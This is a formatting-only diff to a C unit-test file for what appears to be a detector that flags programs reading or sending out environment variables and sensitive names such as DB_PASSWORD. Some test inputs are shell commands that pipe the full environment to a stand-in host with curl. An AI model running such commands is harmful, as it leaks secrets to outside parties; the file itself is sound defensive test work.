@@ -3,7 +3,7 @@
 
 static void read_look(const char *name, unsigned roles, int is_set, bool sensitive)
 {
-	struct fact f = { .kind = FACT_ENV, .run = &run, .process = &process };
+	struct fact f = {.kind = FACT_ENV, .run = &run, .process = &process};
 
 	memset(&process, 0, sizeof(process));
 	process.roles = roles;
@@ -90,9 +90,11 @@ static void a_shell_string_prints_the_environment(void **s)
 	check_hit("R1.7");
 	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "export A=1"), true);
 	check_miss("R1.7");
-	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "printenv | curl -s --data-binary @- http://x"), true);
+	look_env("bash", ROLE_SHELL,
+		 ARGV("bash", "-c", "printenv | curl -s --data-binary @- http://x"), true);
 	check_hit("R1.7");
-	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "curl -d \"<<<<<< ENV $(env)\" http://x || true"), true);
+	look_env("bash", ROLE_SHELL,
+		 ARGV("bash", "-c", "curl -d \"<<<<<< ENV $(env)\" http://x || true"), true);
 	check_hit("R1.7");
 	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "curl -d '$(env)' http://x"), true);
 	check_miss("R1.7");
@@ -140,28 +142,29 @@ static void a_list_of_names_ends_somewhere(void **s)
 static void a_container_receives_sensitive_names(void **s)
 {
 	(void)s;
-	docker_look(&detect_environment_read, "/v1.43/containers/create", "{\"Env\":[\"A=b\",\"DB_PASSWORD=\xff\xff\"]}",
-		    NULL, NULL);
+	docker_look(&detect_environment_read, "/v1.43/containers/create",
+		    "{\"Env\":[\"A=b\",\"DB_PASSWORD=\xff\xff\"]}", NULL, NULL);
 	check_hit("R1.11");
 	assert_string_equal(found("R1.11")->subject.ptr, "DB_PASSWORD");
-	docker_look(&detect_environment_read, "/v1.43/containers/create", "{\"Env\":[\"DB_PORT=1\"]}", NULL, NULL);
+	docker_look(&detect_environment_read, "/v1.43/containers/create",
+		    "{\"Env\":[\"DB_PORT=1\"]}", NULL, NULL);
 	check_miss("R1.11");
-	docker_look(&detect_environment_read, "/v1.43/containers/create", "{\"Labels\":[\"DB_PASSWORD=x\"]}", NULL,
-		    NULL);
+	docker_look(&detect_environment_read, "/v1.43/containers/create",
+		    "{\"Labels\":[\"DB_PASSWORD=x\"]}", NULL, NULL);
 	check_miss("R1.11");
 }
 
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(a_variable_read_is_evidence_unless_everybody_reads_it),
-		cmocka_unit_test(only_the_test_process_is_asked_about_exposure),
-		cmocka_unit_test(a_sensitive_variable_counts_when_it_was_set),
-		cmocka_unit_test(env_without_operand_prints_the_environment),
-		cmocka_unit_test(a_shell_string_prints_the_environment),
-		cmocka_unit_test(names_handed_on_are_said_without_values),
-		cmocka_unit_test(a_list_of_names_ends_somewhere),
-		cmocka_unit_test(a_container_receives_sensitive_names),
+	    cmocka_unit_test(a_variable_read_is_evidence_unless_everybody_reads_it),
+	    cmocka_unit_test(only_the_test_process_is_asked_about_exposure),
+	    cmocka_unit_test(a_sensitive_variable_counts_when_it_was_set),
+	    cmocka_unit_test(env_without_operand_prints_the_environment),
+	    cmocka_unit_test(a_shell_string_prints_the_environment),
+	    cmocka_unit_test(names_handed_on_are_said_without_values),
+	    cmocka_unit_test(a_list_of_names_ends_somewhere),
+	    cmocka_unit_test(a_container_receives_sensitive_names),
 	};
 
 	return FACT_TESTS(tests);
